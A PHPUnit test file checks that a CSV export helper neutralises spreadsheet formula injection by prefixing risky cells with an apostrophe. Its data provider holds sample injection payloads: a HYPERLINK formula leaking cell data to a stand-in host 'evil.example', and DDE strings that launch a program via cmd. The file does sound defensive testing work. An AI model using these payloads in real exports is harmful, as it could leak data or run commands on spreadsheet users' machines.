<?php

declare(strict_types=1);

namespace SophMate\SafeMode\Tests\unit;

use PHPUnit\Framework\TestCase;
use SophMate\SafeMode\Support\CsvCell;

/** CSV cells that a spreadsheet would run as a formula are exported as text. */
final class CsvCellTest extends TestCase
{
    /** @return array<string,array{mixed,string}> */
    public static function cells(): array
    {
        return [
            'equals' => ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'],
            'plus' => ['+1+cmd|\' /C calc\'!A0', '\'+1+cmd|\' /C calc\'!A0'],
            'minus' => ['-2+3', "'-2+3"],
            'at' => ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
            'tab' => ["\t=1+1", "'\t=1+1"],
            'carriage return' => ["\r=1+1", "'\r=1+1"],
            'plain text' => ['Stripe outage', 'Stripe outage'],
            'formula later in the text' => ['cost = 3 + 4', 'cost = 3 + 4'],
            'html and quotes' => ['<script>alert("x")</script> \'q\'', '<script>alert("x")</script> \'q\''],
            'unicode' => ['Überweisung ⚠ 支付', 'Überweisung ⚠ 支付'],
            'empty' => ['', ''],
            'null' => [null, ''],
            'negative number stays a number' => [-5, '-5'],
            'integer' => [42, '42'],
            'array as json' => [['a' => '=x'], '{"a":"=x"}'],
            'array json starting with a formula char is not possible' => [[], '[]'],
        ];
    }

    /**
     * @dataProvider cells
     * @param mixed $value
     */
    public function test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe($value, string $expected): void
    {
        self::assertSame($expected, CsvCell::safe($value));
    }

    public function test_a_row_is_made_safe_cell_by_cell_keeping_its_keys(): void
    {
        self::assertSame(['reason' => "'=1", 'id' => '7'], CsvCell::row(['reason' => '=1', 'id' => 7]));
    }
}
